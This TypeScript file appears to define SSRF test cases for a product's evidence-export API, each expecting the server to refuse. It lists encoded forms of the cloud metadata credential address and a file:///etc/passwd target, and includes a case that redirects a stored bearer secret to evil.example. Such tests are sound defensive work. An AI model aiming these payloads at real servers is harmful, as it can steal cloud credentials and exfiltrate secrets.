import type { Attack, AttackFamily } from '../attack.ts';

/** Ways to write where clouds give machines their credentials. */
const METADATA = [
  '169.254.169.254',
  '2852039166',
  '0xa9fea9fe',
  '[::ffff:169.254.169.254]',
  '[fe80::1]',
  'metadata.google.internal',
];
const JSON_TYPE = { 'content-type': 'application/json' } as const;

/** SSRF: an operator, or whoever has their session, configures an address that the server then asks. */
function configured(name: string, refusal: string, method: string, path: string, body: object): Attack {
  return {
    name: `SSRF: ${name}`,
    refusal,
    record: 'request log',
    attempt: async (target) =>
      target.attempt({
        method,
        path: `/api/v1${path}`,
        headers: { ...(await target.signIn()), ...JSON_TYPE },
        body: JSON.stringify(body),
      }),
  };
}

const exported = (url: string) => ({ destination: { kind: 'https', url, authorities: null }, format: 'ocsf' });

export const addresses: AttackFamily = {
  name: 'addresses',
  attacks: [
    ...METADATA.map((host) =>
      configured(
        `evidence to ${host}`,
        'bad-destination',
        'PUT',
        '/evidence/exports/ssrf',
        exported(`https://${host}/latest`),
      ),
    ),
    configured(
      'evidence in clear text',
      'bad-destination',
      'PUT',
      '/evidence/exports/ssrf',
      exported('http://siem.example/'),
    ),
    configured(
      'evidence to a file',
      'bad-destination',
      'PUT',
      '/evidence/exports/ssrf',
      exported('file:///etc/passwd'),
    ),
    configured('evidence by syslog to credentials', 'bad-destination', 'PUT', '/evidence/exports/ssrf', {
      destination: { kind: 'syslog', host: '169.254.169.254', port: 80, authorities: null, clientCertificate: null },
      format: 'ocsf',
    }),
    {
      name: 'a secret that was given for one receiver is to go to another',
      refusal: 'secret-needed',
      record: 'request log',
      attempt: async (target) => {
        const put = async (body: object) => ({
          method: 'PUT',
          path: '/api/v1/evidence/exports/kept',
          headers: { ...(await target.signIn()), ...JSON_TYPE },
          body: JSON.stringify(body),
        });
        await target.send(await put({ ...exported('https://siem.example/'), secret: 'Bearer 1' }));
        return target.attempt(await put(exported('https://evil.example/')));
      },
    },
  ],
};
